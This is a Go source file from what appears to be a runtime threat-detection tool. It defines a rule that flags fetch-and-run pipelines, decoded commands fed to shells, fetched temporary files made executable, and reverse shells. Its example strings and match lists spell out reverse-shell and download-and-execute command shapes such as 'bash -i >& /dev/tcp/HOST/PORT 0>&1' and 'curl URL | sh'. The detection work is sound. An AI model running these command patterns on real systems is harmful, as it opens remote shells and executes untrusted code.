package rules

import (
	"path"
	"strings"

	"vedette.dev/vedette/internal/detect"
	"vedette.dev/vedette/internal/detect/command"
	"vedette.dev/vedette/internal/event"
	"vedette.dev/vedette/internal/finding"
)

var shellNames = []string{"sh", "bash", "dash", "ash", "zsh", "ksh", "mksh", "busybox"}

// executionCommand is Execution:Runtime/SuspiciousCommand: something is fetched and run at once, hidden text is decoded into a
// shell, or a well-known line opens a shell to somewhere. How bad it is depends on where it is fetched from.
//
// Besides the text of one command line, two shapes are seen over several processes: a program that fetches or decodes writes
// into the pipe that a shell reads its commands from (the last 64 such pipes of a place), and a file that was fetched into a
// folder for temporary files is made executable or run (the last 32 files of a place, for ten minutes).
//
// What stays quiet: an image's own entrypoint, a person's session, builds and package managers.
func executionCommand() detect.Rule {
	inner := suspiciousCommand("Execution:Runtime/SuspiciousCommand", executionCommands, executionAdvice)
	type fetched struct {
		pipe     uint64
		file     string
		at       int64
		severity float64
		from     string
	}
	type state struct {
		pipes [64]fetched
		files [32]fetched
		p, f  int
	}
	places := newMemory[state](512)
	type reported struct{ shell event.UUID }
	var last [64]reported
	next := 0
	report := func(m *detect.Match, what, example, object string, severity float64) bool {
		l := line{m: m}
		if l.excused(withoutProof) {
			return false
		}
		// The line that started both ends of the pipe may have been found already.
		for _, r := range last {
			if !r.shell.IsZero() && (r.shell == parentOf(m.Process) || r.shell == m.Process.UUID) {
				return false
			}
		}
		m.Severity, m.Object = severity, object
		m.Context = finding.Context{CommandLineExample: example, ScriptPath: m.Process.ScriptPath}
		m.Description = "The " + m.Who(m.Process) + " " + what + " " + executionAdvice
		return true
	}
	// Whatever fetches, decodes or may run what was fetched comes through the pattern: shells reading a pipe have no name of
	// their own, so that it is asked by what they are.
	return detect.Rule{
		Type:    "Execution:Runtime/SuspiciousCommand",
		Pattern: `{"kind":["exec"],"errno":[0]}`,
		Detect: func(m *detect.Match) bool {
			p := m.Process
			if inner.Detect(m) {
				last[next] = reported{p.UUID}
				next = (next + 1) % len(last)
				return true
			}
			commands := m.Facts.Commands()
			c := &commands[0]
			if len(commands) > 1 && wrapped(commands) {
				c = &commands[len(commands)-1]
			}
			shell := m.Facts.Shell(p) || command.Shell(c.Name) || command.Interpreter(c.Name)
			switch {
			case downloaders[c.Name]:
				in, file := pipe(p.Stdout), target(c)
				if in == 0 && file == "" {
					return false
				}
				s := places.of(m)
				from := source(c)
				if in != 0 {
					s.pipes[s.p] = fetched{pipe: in, at: m.Event.Time, severity: sourceSeverity(from), from: strings.Clone(from)}
					s.p = (s.p + 1) % len(s.pipes)
				}
				if file != "" {
					if !path.IsAbs(file) {
						file = path.Join(p.Cwd, file)
					}
					if temporary(file) {
						s.files[s.f] = fetched{file: strings.Clone(file), at: m.Event.Time, severity: sourceSeverity(from), from: strings.Clone(from)}
						s.f = (s.f + 1) % len(s.files)
					}
				}
				return false
			case decoder(c):
				if in := pipe(p.Stdout); in != 0 {
					s := places.of(m)
					s.pipes[s.p] = fetched{pipe: in, at: m.Event.Time, severity: finding.SeverityMedium}
					s.p = (s.p + 1) % len(s.pipes)
				}
				return false
			case shell && pipe(p.Stdin) != 0 && readsCommands(p, m.Facts.Shell(p)):
				s := places.known(m)
				if s == nil {
					return false
				}
				for i := range s.pipes {
					f := &s.pipes[i]
					if f.pipe != pipe(p.Stdin) || m.Event.Time-f.at > 60e9 {
						continue
					}
					f.pipe = 0
					if f.from == "" {
						return report(m, "takes its commands from a program that decodes them, so that the command line shows nothing of what is run.",
							"base64 -d | sh", "decoded", finding.SeverityMedium)
					}
					return report(m, "runs the commands that it is sent from '"+event.PrintableN(f.from, 200)+"' as they arrive, without anybody having seen them.",
						"curl URL | sh", "piped", f.severity)
				}
				return false
			}
			// A fetched file is made executable or run.
			s := places.known(m)
			if s == nil || s.files[0].file == "" {
				return false
			}
			run := p.ExePath
			switch {
			case c.Name == "chmod" && (c.Has("+x", "a+x", "u+x", "755", "0755", "777", "0777", "700", "+rx") || strings.Contains(c.Operand(0), "+") && strings.Contains(c.Operand(0), "x")):
				run = c.Operand(1)
			case p.ScriptPath != "":
				run = p.ScriptPath
			case shell && len(commands) > 1 && commands[len(commands)-1].Interpreter != "":
				run = commands[len(commands)-1].Path
			}
			if run == "" {
				return false
			}
			for i := range s.files {
				f := &s.files[i]
				if f.file == "" || m.Event.Time-f.at > 600e9 || !sameFile(f.file, run, p.Cwd) {
					continue
				}
				from, file := f.from, f.file
				f.file = ""
				return report(m, "makes executable or runs the file '"+event.PrintableN(file, 200)+"', which was fetched just before from '"+event.PrintableN(from, 200)+"'.",
					"curl -o /tmp/FILE URL; chmod +x /tmp/FILE; /tmp/FILE", "fetched", f.severity)
			}
			return false
		},
	}
}

const executionAdvice = "What it ran came from somewhere else and may be anything. Look at how the process was started (its lineage), at what it " +
	"fetched and from where, and at what it did next."

// sameFile reports whether a path, relative to a folder or not, is the file, without allocation where it is not.
func sameFile(file, run, cwd string) bool {
	if command.Base(file) != command.Base(run) {
		return false
	}
	if !path.IsAbs(run) {
		run = path.Join(cwd, run)
	}
	return path.Clean(file) == path.Clean(run)
}

// wrapped reports whether a command line is one command behind wrappers, not a text of several.
func wrapped(commands []command.Command) bool {
	for i := range commands {
		if commands[i].Nested || commands[i].Interpreter != "" {
			return false
		}
	}
	return true
}

// decoder reports whether a command turns text into what it hides.
func decoder(c *command.Command) bool {
	switch c.Name {
	case "base64", "base32", "basenc":
		return c.Flag('d', "decode") || c.Flag('D')
	case "openssl":
		return c.Flag('d') && (c.Has("enc", "base64") || strings.HasPrefix(c.Operand(0), "aes"))
	case "xxd":
		return c.Flag('r')
	}
	return false
}

var executionCommands = []suspicion{
	{
		id: "piped", names: shellNames2, example: "curl URL | sh", quiet: withoutProof,
		what: "fetches commands and runs them as they arrive",
		match: func(l *line, c *command.Command) bool {
			if !c.Nested {
				return false
			}
			for in, n := l.input(c), 0; in != nil && n < 6; in, n = l.input(in), n+1 {
				if downloaders[in.Name] {
					from := source(in)
					l.source, l.shown = sourceSeverity(from), from
					return true
				}
			}
			return false
		},
	},
	{
		id: "piped", names: []string{"eval", "source", "."}, example: "eval \"$(curl URL)\"", quiet: withoutProof,
		what: "fetches commands and runs them as they arrive",
		match: func(l *line, c *command.Command) bool {
			if in := l.input(c); in != nil && downloaders[in.Name] {
				l.source, l.shown = sourceSeverity(source(in)), source(in)
				return true
			}
			return false
		},
	},
	{
		id: "decoded", names: shellNames2, example: "echo TEXT | base64 -d | sh", quiet: withoutProof,
		what: "decodes hidden commands and runs them",
		match: func(l *line, c *command.Command) bool {
			if !c.Nested {
				return false
			}
			for in, n := l.input(c), 0; in != nil && n < 6; in, n = l.input(in), n+1 {
				if decoder(in) || in.Name == "rev" {
					return true
				}
			}
			return false
		},
	},
	{
		id: "fetched", names: []string{"curl", "wget"}, example: "curl -o /tmp/FILE URL; chmod +x /tmp/FILE; /tmp/FILE", quiet: withoutProof,
		what: "fetches a file and runs it",
		match: func(l *line, c *command.Command) bool {
			file := target(c)
			if !c.Nested || file == "" {
				return false
			}
			for i := range l.commands {
				d := &l.commands[i]
				if !d.Nested || d == c {
					continue
				}
				ran := sameFile(file, d.Path, "") && d.Path != ""
				if d.Name == "chmod" && (strings.Contains(d.Operand(0), "x") || strings.Trim(d.Operand(0), "01234567") == "") {
					ran = ran || sameFile(file, d.Operand(1), "")
				}
				if ran {
					from := source(c)
					l.source, l.shown = sourceSeverity(from), from
					return true
				}
			}
			return false
		},
	},
	{
		id: "inline decode", names: pythons, example: "python3 -c 'exec(base64.b64decode(TEXT))'", quiet: byBuild,
		what: "decodes hidden code and runs it",
		match: func(l *line, c *command.Command) bool {
			return has(c, "exec(", "eval(", "Function(", "eval ", "assert(", "system(") && has(c, "b64decode", "base64_decode", "decode_base64", "'base64'", "\"base64\"", "fromhex", "atob(", "unhexlify", "zlib.decompress", "MIME::Base64", "unpack('H*'")
		},
	},
	{
		id: "shell line", names: append([]string{"exec", "nc", "ncat", "netcat", "nc.traditional", "socat", "openssl", "telnet", "awk", "gawk", "mawk"}, append(pythons, shellNames...)...),
		example: "bash -i >& /dev/tcp/HOST/PORT 0>&1", severity: finding.SeverityHigh,
		what: "gives a shell to whoever is at the other end of a connection",
		match: func(l *line, c *command.Command) bool {
			switch {
			case c.Interpreter != "":
				return false
			case c.Name == "exec":
				// exec 5<>/dev/tcp/HOST/PORT; … sh <&5
				if c.Operand(0) != "" || len(c.Redirects) == 0 || !strings.HasPrefix(c.Redirects[0].Path, "/dev/tcp/") {
					return false
				}
				for i := range l.commands {
					if d := &l.commands[i]; d.Nested && command.Shell(d.Name) && d.Interpreter == "" && d.Operand(0) == "" {
						return true
					}
				}
				return false
			case c.Name == "nc" || c.Name == "ncat" || c.Name == "netcat" || c.Name == "nc.traditional":
				return (c.Flag('e', "exec", "sh-exec") || c.Flag('c', "sh-exec")) && (c.Contains("sh") || c.Contains("cmd") || c.Contains("python"))
			case c.Name == "socat":
				return (containsFold(c, "exec:") || containsFold(c, "system:")) && (containsFold(c, "tcp") || containsFold(c, "udp") || containsFold(c, "openssl")) && c.Contains("sh")
			case strings.HasSuffix(c.Name, "awk"):
				return c.Contains("/inet/tcp/") && (c.Contains("getline") || c.Contains("|&"))
			case command.Shell(c.Name):
				for _, r := range c.Redirects {
					if strings.HasPrefix(r.Path, "/dev/tcp/") || strings.HasPrefix(r.Path, "/dev/udp/") {
						return c.Has("-i") || len(c.Args) == 0
					}
				}
				return c.Flag('i') && has(c, "/dev/tcp/", "/dev/udp/")
			case c.Name == "openssl" || c.Name == "telnet":
				// mkfifo f; sh -i <f 2>&1 | openssl s_client … >f
				in := l.input(c)
				return in != nil && command.Shell(in.Name) && (c.Name == "telnet" || c.Has("s_client"))
			default:
				return has(c, "socket", "Socket", "fsockopen", "TCPSocket", "net.connect", "net.Socket") &&
					has(c, "pty.spawn", "dup2", "/bin/sh", "/bin/bash", "'sh'", "\"sh\"", "\"bash\"", "'bash'", "/bin/ash", "/bin/zsh") && has(c, "connect", "fsockopen", "Socket", "socket")
			}
		},
	},
}

// shellNames2 are what may read commands from a pipe.
var shellNames2 = append(append([]string{}, shellNames...), "python", "python3", "perl", "ruby", "php", "node")

// pythons are the interpreters that take code in an argument.
var pythons = []string{"python", "python2", "python3", "python3.9", "python3.10", "python3.11", "python3.12", "python3.13", "python3.14", "python2.7", "perl", "ruby", "php", "node", "nodejs", "lua"}

// has reports whether an argument contains one of the texts.
func has(c *command.Command, texts ...string) bool {
	for _, t := range texts {
		if c.Contains(t) {
			return true
		}
	}
	return false
}

func containsFold(c *command.Command, text string) bool {
	for _, a := range c.Args {
		if len(a) < 4096 && strings.Contains(strings.ToLower(a), text) {
			return true
		}
	}
	return false
}
